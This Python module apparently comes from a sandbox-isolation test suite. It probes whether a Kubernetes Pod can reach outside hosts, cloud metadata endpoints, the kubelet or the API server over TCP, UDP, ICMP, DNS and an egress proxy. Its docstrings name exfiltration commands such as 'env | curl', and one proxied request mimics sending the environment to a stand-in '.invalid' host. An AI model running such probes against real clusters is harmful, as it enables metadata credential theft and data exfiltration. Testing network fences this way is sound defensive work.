"""Attacks over the network: ways out for data, metadata, other Pods, the node and the API server.

Only addresses that the scene names are tried; by default those of documentation (RFC 5737, 3849)
and names that end in .invalid. What is sent is a fixed text.
"""

import errno
import os
import select
import socket
import struct
from collections.abc import Callable, Iterable, Iterator
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from typing import Final
from urllib.parse import urlsplit

from ringfence.attack.probes.kit import Attempt, Result, Scene, name, refusal, result

_SECONDS: Final = 3.0
_MARK: Final = b"ringfence-attack"
_NOT_OUR_BUSINESS: Final = b"ringfence-attack.invalid"
_METADATA: Final = ("169.254.169.254", "169.254.170.2", "169.254.170.23")
_METADATA_V6: Final = "fd00:ec2::254"
_DOCUMENTATION_V6: Final = "2001:db8::1"
_KUBELET: Final = 10250
_OTHER_PORTS: Final = (10255, 6443, 2379)
_HTTP_FORBIDDEN: Final = 403
_ECHO_REQUEST: Final = 8
_IP_RECVERR, _IPV6_RECVERR = 11, 25
_ICMP, _ICMP_V6 = 2, 3
_REJECTIONS: Final = frozenset(
    [(_ICMP, 3, code) for code in (3, 9, 10, 13)] + [(_ICMP_V6, 1, code) for code in (1, 4, 5, 6)]
)
"""Origin, type and code of ICMP messages by which filters reject: port unreachable, prohibited."""


def exfiltrate(scene: Scene) -> Result:
    """`env | curl`: every way out for the environment."""
    target, known = scene["target"], scene["targetKnown"]
    direct = _at_once(
        *(partial(_tcp, target, port, known=known) for port in (443, 80)),
        partial(_tcp, _DOCUMENTATION_V6, 443, known=known),
        partial(_datagram, target, 443, known=known),
        *(partial(_dns, server) for server in _resolvers()),
    )
    return result([*direct, _ping(target, known=known), *_proxied(target)])


def _at_once(*ways: Callable[[], Attempt]) -> list[Attempt]:
    """Most of them end by their time limit."""
    with ThreadPoolExecutor(len(ways)) as pool:
        return [future.result() for future in [pool.submit(way) for way in ways]]


def metadata(_scene: Scene) -> Result:
    """`curl 169.254.169.254`, directly and through the proxy; and whether any fence is there."""
    direct = _at_once(
        *(partial(_tcp, address, 80) for address in (*_METADATA, _METADATA_V6)), *_api_server()
    )
    proxied = _through_proxy(
        "CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: 169.254.169.254:80",
        "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254",
    )
    return result([*direct, *proxied])


def other_pods(scene: Scene) -> Result:
    """The neighbour's open port; it was seen to answer from inside the neighbour."""
    address, port = scene["neighbour"], scene["neighbourPort"]
    return result([_tcp(address, port, known=True)])


def ports(scene: Scene) -> Result:
    """The kubelet of this node and the API server, both known to listen."""
    node = scene["node"]
    attempts = _at_once(
        partial(_tcp, node, _KUBELET, known=True),
        *(partial(_tcp, node, port) for port in _OTHER_PORTS),
        *_api_server(),
    )
    return result(attempts, ownNetworkNamespace=not _is_mine(node))


def _is_mine(address: str) -> bool:
    """Whether an address belongs to this network namespace."""
    with socket.socket(_family(address), socket.SOCK_DGRAM) as probe:
        try:
            probe.bind((address, 0))
        except OSError:
            return False
        return True


def _api_server() -> Iterator[Callable[[], Attempt]]:
    """By the address that the kubelet puts into every environment."""
    host = os.environ.get("KUBERNETES_SERVICE_HOST")
    if host:
        port = int(os.environ.get("KUBERNETES_SERVICE_PORT", "443"))
        yield partial(_tcp, host, port, known=True)


def _family(address: str) -> socket.AddressFamily:
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def _tcp(address: str, port: int, *, known: bool = False) -> Attempt:
    """Silence proves a fence only where somebody is known to listen."""
    what = f"connect {address}:{port}"
    try:
        with _socket(address, socket.SOCK_STREAM) as connection:
            try:
                connection.connect((address, port))
            except OSError as error:
                return _not_reached(what, error, _rejected_by(connection), known=known)
    except OSError as error:  # no such socket
        return Attempt(what, "refused", name(error.errno or 0))
    return Attempt(what, "through", known=known)


def _datagram(address: str, port: int, *, known: bool) -> Attempt:
    """A complaint by the addressee itself means that the datagram has left and arrived."""
    sent = _udp(address, port, _MARK, known=known)
    arrived = sent.detail == f"rejected by {address}"
    return sent._replace(outcome="through") if arrived else sent


def _udp(address: str, port: int, message: bytes, *, known: bool) -> Attempt:
    what = f"send UDP to {address}:{port}"
    try:
        with _socket(address, socket.SOCK_DGRAM) as probe:
            try:
                probe.connect((address, port))
                probe.send(message)
                probe.recv(4096)
            except OSError as error:
                return _not_reached(what, error, _rejected_by(probe), known=known)
    except OSError as error:
        return Attempt(what, "refused", name(error.errno or 0))
    return Attempt(what, "through", known=known)


def _socket(address: str, kind: socket.SocketKind) -> socket.socket:
    """A socket that keeps the ICMP messages of those who refused."""
    made = socket.socket(_family(address), kind)
    made.settimeout(_SECONDS)
    if ":" in address:
        made.setsockopt(socket.IPPROTO_IPV6, _IPV6_RECVERR, 1)
    else:
        made.setsockopt(socket.IPPROTO_IP, _IP_RECVERR, 1)
    return made


def _not_reached(what: str, error: OSError, rejected_by: str, *, known: bool) -> Attempt:
    """Whether this was a fence: a packet filter's own words, or a Pod without a way out.

    EPERM is a packet filter in the Pod, ENETUNREACH a Pod without a route. ECONNREFUSED alone
    says nothing: it may come from the addressee as well as from a filter.
    """
    said = "timeout" if isinstance(error, TimeoutError) else name(error.errno or 0)
    if rejected_by:
        return Attempt(what, "refused", said, known=known, detail=f"rejected by {rejected_by}")
    if error.errno in (errno.ENETUNREACH, errno.EACCES, errno.EPERM):
        return Attempt(what, "refused", said, known=known)
    return Attempt(what, "silent", said, known=known)


def _rejected_by(connection: socket.socket) -> str:
    """Who sent the ICMP message that a packet filter sends; empty if nobody did."""
    connection.settimeout(0)
    try:
        _, ancillary, _, _ = connection.recvmsg(1, 512, socket.MSG_ERRQUEUE)
    except OSError:
        return ""
    for level, _, data in ancillary:
        origin, kind, code = struct.unpack_from("BBB", data, 4)
        if (origin, kind, code) in _REJECTIONS:
            if level == socket.IPPROTO_IPV6:
                return socket.inet_ntop(socket.AF_INET6, data[24:40])
            return socket.inet_ntop(socket.AF_INET, data[20:24])
    return ""


def _ping(address: str, *, known: bool) -> Attempt:
    """ICMP carries data as well; the kernel lets anybody ping who gets such a socket."""
    what = f"ping {address}"
    arguments = (socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    heard = refusal("socket", *arguments)
    try:
        probe = socket.socket(*arguments)
    except OSError as error:
        return Attempt(what, "refused", name(error.errno or 0), heard)
    with probe:
        try:
            probe.sendto(struct.pack("!BBHHH", _ECHO_REQUEST, 0, 0, 0, 0) + _MARK, (address, 0))
        except OSError as error:
            return Attempt(what, "refused", name(error.errno or 0), heard)
        ready, _, _ = select.select([probe], [], [], _SECONDS)
    return Attempt(what, "through" if ready else "silent", known=known)


def _resolvers() -> Iterable[str]:
    """DNS servers that the Pod is told of, and where clusters usually have theirs."""
    with open("/etc/resolv.conf") as file:
        words = [line.split() for line in file]
    found = [w[1] for w in words if w[:1] == ["nameserver"] and not w[1].startswith("127.")]
    host = os.environ.get("KUBERNETES_SERVICE_HOST", "")
    if "." in host:
        found.append(f"{host.rpartition('.')[0]}.10")
    return sorted(set(found))


def _dns(server: str) -> Attempt:
    """Any answer is a way out: data leaves in the names that are asked for."""
    labels = b"kubernetes.default.svc.cluster.local".split(b".")
    question = b"".join(bytes([len(label)]) + label for label in labels)
    query = struct.pack("!6H", 1, 0x0100, 1, 0, 0, 0) + question + struct.pack("!BHH", 0, 1, 1)
    asked = _udp(server, 53, query, known=True)
    return asked._replace(what=f"ask DNS server {server}")


def _proxied(target: str) -> Iterator[Attempt]:
    """Through the egress proxy: a name off the list, an address, plain HTTP."""
    name_ = _NOT_OUR_BUSINESS.decode()
    yield from _through_proxy(
        f"CONNECT {name_}:443 HTTP/1.1\r\nHost: {name_}:443",
        f"CONNECT {target}:443 HTTP/1.1\r\nHost: {target}:443",
        f"GET http://{name_}/?env=all HTTP/1.1\r\nHost: {name_}",
    )


def _through_proxy(*requests: str) -> Iterator[Attempt]:
    """Nothing at all where no proxy listens: the direct ways decide then."""
    for request in requests:
        what = f"{' '.join(request.split()[:2])} through the proxy"
        try:
            status = _ask_proxy(request)
        except ConnectionRefusedError:
            return
        except OSError as error:
            yield Attempt(what, "refused", name(error.errno or 0))
        else:
            refused = status in (_HTTP_FORBIDDEN, 400, 0)
            yield Attempt(what, "refused" if refused else "through", f"HTTP {status}")


def _proxy() -> tuple[str, int]:
    """Where the Sandbox is told to look for its egress proxy."""
    url = urlsplit(os.environ.get("HTTPS_PROXY", ""))
    return url.hostname or "127.0.0.1", url.port or 3128


def _ask_proxy(request: str) -> int:
    """Status of the answer; 0 if the proxy closed the connection."""
    with socket.create_connection(_proxy(), timeout=_SECONDS) as connection:
        connection.sendall(f"{request}\r\n\r\n".encode())
        words = connection.recv(4096).split(b" ", 2)
    return int(words[1]) if len(words) > 1 and words[1].isdigit() else 0
